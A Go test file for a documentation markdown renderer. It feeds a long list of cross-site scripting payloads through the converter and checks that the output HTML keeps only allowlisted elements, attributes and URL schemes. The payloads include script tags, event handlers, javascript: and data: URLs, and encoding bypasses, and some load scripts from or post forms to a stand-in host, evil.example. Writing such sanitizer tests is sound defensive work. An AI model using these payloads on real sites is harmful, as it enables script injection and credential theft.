package markdown_test

import (
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"devportal.internal/subgraphs/docs/markdown"
)

// elements and attributes are all that a page may hold, said here a second time, so that a change of the policy is noticed.
var (
	elements = strings.Fields(`html head body p br hr h1 h2 h3 h4 h5 h6 blockquote pre code kbd samp var em strong b i u s del ins mark
		sub sup small ul ol li dl dt dd table caption thead tbody tfoot tr th td div span details summary abbr figure figcaption a img`)
	attributes = strings.Fields(`id class title align colspan rowspan start open href src alt width height rel`)
)

// danger is what is not safe in a page; empty when it is.
func danger(page string) string {
	root, err := html.Parse(strings.NewReader(page))
	if err != nil {
		return "it is no HTML: " + err.Error()
	}
	for n := range root.Descendants() {
		switch n.Type {
		case html.CommentNode:
			return "a comment"
		case html.ElementNode:
			if n.Namespace != "" || !slices.Contains(elements, n.Data) {
				return "an element " + n.Namespace + " " + n.Data
			}
		default:
		}
		for _, attribute := range n.Attr {
			if !slices.Contains(attributes, attribute.Key) {
				return "an attribute " + attribute.Key
			}
			if attribute.Key == "href" || attribute.Key == "src" {
				if u, err := url.Parse(attribute.Val); err != nil || !slices.Contains([]string{"", "http", "https", "mailto"}, u.Scheme) {
					return "a URL " + attribute.Val
				}
			}
		}
	}
	return ""
}

// payloads are attacks of the kinds that are known: each line is one.
const payloads = `<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src="x" onerror="alert(1)"
<img/src/onerror=alert(1)>
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<img src="javascript:alert(1)">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href="java&#x0A;script:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="file:///etc/passwd">x</a>
<a href="x" onclick="alert(1)" style="position:fixed;inset:0">x</a>
<a href=x target=_blank ping=//evil.example>x</a>
<iframe src="https://evil.example"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<form action="https://evil.example"><input name=password><button formaction=javascript:alert(1)>go</button></form>
<input autofocus onfocus=alert(1)>
<select onfocus=alert(1) autofocus><textarea onfocus=alert(1)>
<style>@import "//evil.example/x.css"; body{background:url(javascript:alert(1))}</style>
<div style="background:url(javascript:alert(1))">x</div>
<div style="width:expression(alert(1))">x</div>
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<base href="https://evil.example/">
<video src=x onerror=alert(1)><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<body onload=alert(1)>
<table background="javascript:alert(1)"><td background="javascript:alert(1)">
<isindex action=javascript:alert(1) type=image>
<keygen autofocus onfocus=alert(1)>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!--><img src=x onerror=alert(1)>-->
<![CDATA[><script>alert(1)</script>]]>
<?xml version="1.0"?><x onload=alert(1)>
<xmp><script>alert(1)</script></xmp>
<plaintext><script>alert(1)</script>
<title><img src=x onerror=alert(1)></title>
<p title="x"onmouseover="alert(1)">x
<p/onmouseover=alert(1)>x
<custom-element onclick=alert(1) is=x>x</custom-element>
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x](java	script:alert(1))
[x](&#106;avascript:alert(1))
[x](<javascript:alert(1)>)
[x](data:text/html,<script>alert(1)</script>)
[x](vbscript:alert(1))
[x](x "onmouseover=alert(1)")
[x](x '"onmouseover="alert(1)')
[x]: javascript:alert(1)
<javascript:alert(1)>
![x](javascript:alert(1))
![x"onerror="alert(1)](image.png)
![x](image.png"onerror="alert(1))
![x](data:image/svg+xml,<svg onload=alert(1)>)
[x](other.md){ onclick="alert(1)" style="x" href="javascript:alert(1)" }
![x](image.png){ onerror=alert(1) src="javascript:alert(1)" srcset="x" }
# x { onclick="alert(1)" #"><script>alert(1)</script> }
!!! "note\"><script>alert(1)</script>" "<script>alert(1)</script>"
!!! note "<img src=x onerror=alert(1)>"
??? note "</summary><script>alert(1)</script>"
=== "<script>alert(1)</script>"
:<script>alert(1)</script>:
==<script>alert(1)</script>== ^<img src=x onerror=alert(1)>^
*[x]: "><script>alert(1)</script>
[^<script>alert(1)</script>]: x
> [!NOTE]<script>alert(1)</script>
- [x] <script>alert(1)</script>
[TOC]
`

// blocks are attacks of more than one line.
var blocks = []string{
	"```mermaid\n</pre><script>alert(1)</script>\n```", "```\"><script>alert(1)</script>\nx\n```",
	"```go title=\"</span><script>alert(1)</script>\"\nx\n```", "```go hl_lines=\"99999999999999999999 1-99999999\"\nx\n```",
	"X marks\n\n*[X]: \"onmouseover=alert(1) x=\"", "[TOC]\n\n# <script>alert(1)</script> { #\"><script> }",
	"[x][y]\n\n[y]: javascript:alert(1) \"x\"", "a[^1]\n\n[^1]: <script>alert(1)</script>",
	"| <script>alert(1)</script> |\n|--|\n| <img src=x onerror=alert(1)> |", "x\n{: onclick=alert(1) style=x }",
	"<div>\n\n<script>\n\nalert(1)\n\n</script>\n\n</div>", "<a href=\"java\nscript:alert(1)\">x</a>", "<img src=`x`onerror=alert(1)>",
	"\x00<scr\x00ipt>alert(1)</script>", "\xff\xfe<script>alert(1)</script>", "Term\n:   <script>alert(1)</script>",
}

func TestNoPayloadSurvives(t *testing.T) {
	t.Parallel()
	all := append(strings.Split(strings.TrimSpace(payloads), "\n"), blocks...)
	all = append(all, payloads, strings.Join(blocks, "\n\n"))
	converter := markdown.New(markdown.Options{Permalinks: true})
	for _, payload := range all {
		for _, source := range []string{payload, "text " + payload, "> " + payload, "!!! note\n    " + payload, "- " + payload + "\n\n    " + payload} {
			document, err := converter.Convert([]byte(source), resolve)
			if err != nil {
				t.Errorf("%q: %v", source, err)
			}
			if found := danger(document.HTML); found != "" {
				t.Errorf("%q leaves %s:\n%s", source, found, document.HTML)
			}
		}
	}
}

func TestTheCheckOfPagesFindsWhatIsNotSafe(t *testing.T) {
	t.Parallel()
	for _, page := range []string{"<script>x</script>", "<p onclick=x>", "<a href='javascript:x'>", "<svg><p>", "<p style=x>", "<!-- x -->", "<form>"} {
		if danger(page) == "" {
			t.Errorf("%s counts as safe", page)
		}
	}
}

func TestPagesThatCostTooMuchAreRefusedOrCheap(t *testing.T) {
	t.Parallel()
	const size = 100_000
	for name, unit := range map[string]string{
		"brackets": "[", "closing brackets": "]", "links": "[a](", "images": "![", "emphasis": "*a_ ", "stars": "*", "backticks": "`a``",
		"angles": "<a", "quotes": "> ", "lists": "- ", "marks": "==a^b~", "notes": "[^a]", "footnotes": "[^a]: x\n", "tabs": "\t",
		"braces": "`a`{", "emoji": ":a", "abbreviations": "*[a]: b\n", "admonitions": "!!! note\n", "table": "|", "entities": "&#",
		"comments": "<!--", "declarations": "<!A ", "headings": "# a\n", "references": "[a]: b\n", "definitions": "a\n: b\n", "fences": "```a\n",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			begin := time.Now()
			source := strings.Repeat(unit, size/len(unit))
			document, err := markdown.New(markdown.Options{}).Convert([]byte(source), resolve)
			if found := danger(document.HTML); err == nil && found != "" {
				t.Errorf("it leaves %s", found)
			}
			if took := time.Since(begin); took > 10*time.Second {
				t.Errorf("it took %v", took)
			} else {
				t.Log(took)
			}
		})
	}
	for name, source := range map[string]string{
		"too large": strings.Repeat("a", markdown.MaxBytes+1), "too deep": strings.Repeat("> ", 60) + "a", "too deep lists": strings.Repeat("- ", 60),
	} {
		if _, err := markdown.New(markdown.Options{}).Convert([]byte(source), resolve); err == nil {
			t.Errorf("%s: it is converted", name)
		}
	}
}

func FuzzPagesAreAlwaysSafe(f *testing.F) {
	for _, payload := range append(strings.Split(payloads, "\n"), blocks...) {
		f.Add(payload)
	}
	converter := markdown.New(markdown.Options{Permalinks: true})
	f.Fuzz(func(t *testing.T, source string) {
		document, err := converter.Convert([]byte(source), resolve)
		if err != nil {
			return
		}
		if found := danger(document.HTML); found != "" {
			t.Errorf("%q leaves %s:\n%s", source, found, document.HTML)
		}
	})
}
